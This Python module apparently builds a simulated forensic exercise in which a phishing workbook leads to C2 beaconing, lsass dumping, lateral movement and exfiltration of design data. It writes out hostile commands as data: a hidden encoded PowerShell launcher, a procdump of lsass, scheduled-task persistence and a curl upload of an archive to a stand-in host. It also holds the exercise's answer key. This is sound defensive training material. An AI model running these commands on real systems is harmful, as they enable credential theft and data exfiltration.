"""A mailed workbook, quiet control channels, data carried off; no ransomware."""

from __future__ import annotations

from datetime import date, datetime

from hikeshi.demo import logs
from hikeshi.demo.actions import CMD, POWERSHELL, Actions
from hikeshi.demo.evidence_set import Record
from hikeshi.demo.ordinary import upload
from hikeshi.demo.truth import Story
from hikeshi.demo.world import MINUTE, PROXY, SECOND, SQUID, World
from hikeshi.model.text import Text

NAME = "mail-c2-exfil"
TITLE = Text("メールの添付ファイルからの情報持ち出し", "Data theft after a mailed workbook")
DESCRIPTION = Text(
    "請求書を装った添付ファイルが開かれ、3 日のうちに設計データが社外へ送られました。",
    "An attachment posing as an invoice was opened; within three days design data left the company.")
FIRST, END = date(2026, 9, 5), datetime(2026, 9, 11, 13, 0)  # noqa: DTZ001 (local time of the company)

_KNOWN, _KNOWN_ADDRESS = "telemetry-sync.example", "198.51.100.66"
_HIDDEN, _HIDDEN_ADDRESS = "assets-eu-static.example", "203.0.113.90"
_STORE, _STORE_ADDRESS = "drop-archive.example", "198.51.100.118"
_SYSTEM32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_TASK = "\\Microsoft\\Windows\\AppxSync\\CacheUpdate"
_ARCHIVE = "C:\\ProgramData\\Oracle\\q3.rar"
_RUN_KEY = "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync"
_IMPLANT = "C:\\ProgramData\\OneDriveSync\\odsync.exe"

INDICATORS = """\
# 提供された通信先と検体の一覧 (TLP:AMBER) / Destinations and samples we were given
telemetry-sync[.]example
hxxps://telemetry-sync[.]example/api/v1/ping
login-verify-center[.]example
203[.]0[.]113[.]14
5f8b6a1e0c9d4f27b3a86c5d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f
"""


def happen(world: World) -> Story:
    """Let the attack happen in `world`; what an analyst should find."""
    theft = _Theft(world)
    theft.open_attachment()
    theft.call_home()
    theft.spread()
    theft.carry_off()
    theft.leave_remarks()
    return theft.story


class _Theft:
    def __init__(self, world: World) -> None:
        self.world, self.do, self.story = world, Actions(world, NAME), Story(NAME)
        self.delay = world.cast("delay", 0, 47, 94, 181) * MINUTE
        self.opened = self.at(3, "10:23:05")  # Tuesday, 8 September
        self.patient, self.second = world.cast(
            "clients", ("PC-A031", "PC-B012"), ("PC-A004", "PC-A022"), ("PC-B020", "PC-A014"))
        self.user = next(u.account for u in world.users if u.computer == self.patient)
        self.admin, self.other_admin = world.cast(
            "admin", ("adm-kobayashi", "adm-sato"), ("adm-sato", "adm-kobayashi"))
        self.server, self.other_server = world.cast("server", ("FS02", "FS01"), ("FS01", "FS02"))

    def at(self, day: int, clock: str) -> int:
        return self.world.at(day, clock) + self.delay

    def open_attachment(self) -> None:
        do, story = self.do, self.story
        time, logon_id = self.opened, self.world.next_logon_id()
        workbook = (f"C:\\Users\\{self.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                    "K7Q2WZ1N\\請求書_2026-09.xlsm")
        records = do.file_created(self.patient, self.user, time - 2 * SECOND, _OFFICE + "OUTLOOK.EXE", workbook)
        records += do.process(self.patient, self.user, logon_id, time, _OFFICE + "EXCEL.EXE",
                              f'"{_OFFICE}EXCEL.EXE" "{workbook}"', _OFFICE + "OUTLOOK.EXE")
        encoded = "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA=="
        records += do.process(self.patient, self.user, logon_id, time + 31 * SECOND, POWERSHELL,
                              f"powershell.exe -nop -w hidden -enc {encoded}", _OFFICE + "EXCEL.EXE",
                              f'"{_OFFICE}EXCEL.EXE" "{workbook}"')
        records += do.connection(self.patient, self.user, time + 33 * SECOND, POWERSHELL, PROXY, 3128,
                                 "proxy.kaede.example")
        story.entry("mail_attachment", time, records, source=None, account=self.user, host=self.patient)

        time = self.opened + 6 * MINUTE
        records = do.process(self.patient, self.user, logon_id, time, _SYSTEM32 + "schtasks.exe",
                             f'schtasks /create /tn "{_TASK}" /tr "{_IMPLANT}" /sc onlogon /f', POWERSHELL)
        records += do.task_registered(self.patient, self.user, logon_id, time + SECOND, _TASK, _IMPLANT, "-q",
                                      run_as=self.world.sid(self.user))
        story.claim("persistence", [self.patient, "scheduled_task", _TASK], time, records)
        for minute, image, command in ((8, "whoami.exe", "whoami /all"), (9, "net.exe", "net view /domain:KAEDE"),
                                       (9, "nltest.exe", "nltest /dclist:kaede.example"),
                                       (12, "net.exe", 'net group "Domain Admins" /domain')):
            do.process(self.patient, self.user, logon_id, self.opened + minute * MINUTE, _SYSTEM32 + image, command,
                       POWERSHELL)

    def call_home(self) -> None:
        """Two channels: one every minute, its name is on the list; one every five, known to nobody."""
        first: list[Record] = self._beacon(self.patient, _KNOWN, _KNOWN_ADDRESS, self.opened + 35 * SECOND,
                                           self.world.at(4, "18:30"), every_s=60, jitter_s=6)
        self.story.claim("c2", _KNOWN, self.opened, first)
        second = self._beacon(self.second, _HIDDEN, _HIDDEN_ADDRESS, self.at(4, "14:09:20"),
                              self.world.at(6, "12:50"), every_s=300, jitter_s=12)
        self.story.claim("c2", _HIDDEN, self.at(4, "14:09:20"), second)
        for name, address in ((_KNOWN, _KNOWN_ADDRESS), (_HIDDEN, _HIDDEN_ADDRESS), (_STORE, _STORE_ADDRESS)):
            self.story.aliases[name] = [address]
            self.story.may("c2", address)
        self.story.may("c2", _STORE)

    def _beacon(self, client: str, name: str, address: str, start: int, end: int, *, every_s: int,
                jitter_s: int) -> list[Record]:
        records: list[Record] = []
        do, time = self.do, start
        while time < end:
            records.append(do.evidence.line(SQUID, time, logs.squid(
                time, client=self.world.host(client).address, host=name, address=address,
                elapsed_ms=do.rng.randrange(180, 900), received=do.rng.choice((1187, 1187, 1187, 1219, 2044)))))
            time += every_s * SECOND + do.rng.randrange(-jitter_s * SECOND, jitter_s * SECOND)
        return records

    def spread(self) -> None:
        do, story, world = self.do, self.story, self.world
        # The help desk was on this client the week's first day: its password is still in memory.
        do.rdp(world.host("JUMP01").address, self.patient, self.admin, world.at(2, "15:30:44"), minutes=12,
               used_by=self.admin, client_name="JUMP01")
        time = self.at(4, "13:41:10")
        records = do.process(self.patient, "SYSTEM", 0x3E7, time, "C:\\ProgramData\\p64.exe",
                             "p64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp", CMD)
        records += do.process_access(self.patient, "SYSTEM", time + SECOND, "C:\\ProgramData\\p64.exe",
                                     _SYSTEM32 + "lsass.exe", "0x1fffff")
        story.host(self.patient, time, records)

        time = self.at(4, "14:05:22")
        logon_id, records = do.wmi(self.patient, self.second, self.admin, time, used_by=self.user, image=CMD,
                                   command="cmd.exe /c C:\\ProgramData\\OneDriveSync\\odsync.exe -i")
        story.spread(self.patient, self.second, self.admin, "wmi", time, records)
        time = self.at(4, "14:08:40")
        records = do.process(self.second, self.admin, logon_id, time - SECOND, _IMPLANT, _IMPLANT + " -i", CMD)
        key = _RUN_KEY.format(sid=world.sid(self.admin))
        records += do.registry_set(self.second, self.admin, time, _IMPLANT, key, _IMPLANT + " -q")
        story.claim("persistence", [self.second, "run_key", "OneDriveSync"], time, records)
        story.aliases["OneDriveSync"] = [key]

        time = self.at(4, "22:10:37")
        _, records = do.winrm(self.second, self.server, self.admin, time, used_by=self.admin, image=CMD,
                              command="cmd.exe /c dir D:\\Shares\\設計 /s /b > C:\\ProgramData\\Oracle\\l.txt")
        story.spread(self.second, self.server, self.admin, "winrm", time, records)

    def carry_off(self) -> None:
        do, story, world = self.do, self.story, self.world
        time = self.at(4, "22:31:04")
        host_process = _SYSTEM32 + "wsmprovhost.exe"
        logon_id = world.next_logon_id()
        records = do.process(self.server, self.admin, logon_id, time, "C:\\ProgramData\\Oracle\\rar.exe",
                             f"rar.exe a -r -hpK4e!d2 -v500m {_ARCHIVE} D:\\Shares\\設計", host_process)
        story.claim("staging", [self.server, _ARCHIVE], time, records)
        story.aliases[_ARCHIVE] = [_ARCHIVE.replace(".rar", ".part1.rar"), "C:\\ProgramData\\Oracle",
                                   "C:\\ProgramData\\Oracle\\"]
        records = do.process(self.server, self.admin, logon_id, self.at(4, "23:14:10"), _SYSTEM32 + "curl.exe",
                             f"curl.exe -x http://10.20.1.250:3128 -T {_ARCHIVE} https://{_STORE}/u/8831/",
                             host_process)
        for clock, duration, sent in (("23:14:12", 610, 1_480_000_000), ("23:25:30", 590, 1_390_000_000),
                                      ("23:36:40", 402, 910_000_000)):
            records += upload(do, world.host(self.server).address, _STORE, _STORE_ADDRESS, self.at(4, clock),
                              duration=duration, sent=sent)
        story.claim("exfiltration", {"source": self.server, "destination": _STORE}, self.at(4, "23:14:12"), records)

    def leave_remarks(self) -> None:
        story = self.story
        # A harmless macro of accounting, opened by someone else: Excel with a child, and no crime.
        self.do.process("PC-A011", "t.endo", self.world.next_logon_id(), self.world.at(2, "11:12:40"),
                        "C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 8192", _OFFICE + "EXCEL.EXE")
        self.do.task_registered(self.other_server, self.other_admin, self.world.next_logon_id(),
                                self.world.at(4, "15:20:02"),
                                "\\Kaede\\DiskReport", POWERSHELL, "-File C:\\Scripts\\disk.ps1")
        self.do.evidence.files["notes.txt"] = _REMARKS.encode()
        story.decoy_hosts += ["JUMP01", "DC01", "DC02", self.other_server, "RDS01", "LNX01", "PC-A008", "PC-A011",
                              "PC-B015"]
        story.decoy_accounts += ["svc_backup", self.other_admin, "t.sato", "t.endo"]


_REMARKS = """\
証拠の収集メモ / Notes on collection
会社の時刻帯 / Company time zone: Asia/Tokyo (JST, UTC+9)
取得日時 / Taken at: 2026-09-11 13:00 JST
ファイアウォール / Firewall: FortiGate FW-KAEDE-01 (10.20.0.1)
プロキシ / Proxy: squid 10.20.1.250
端末のイベントログは 8 台分です。メールサーバーのログはありません。
Event logs of eight clients. There is no log of the mail server.
"""

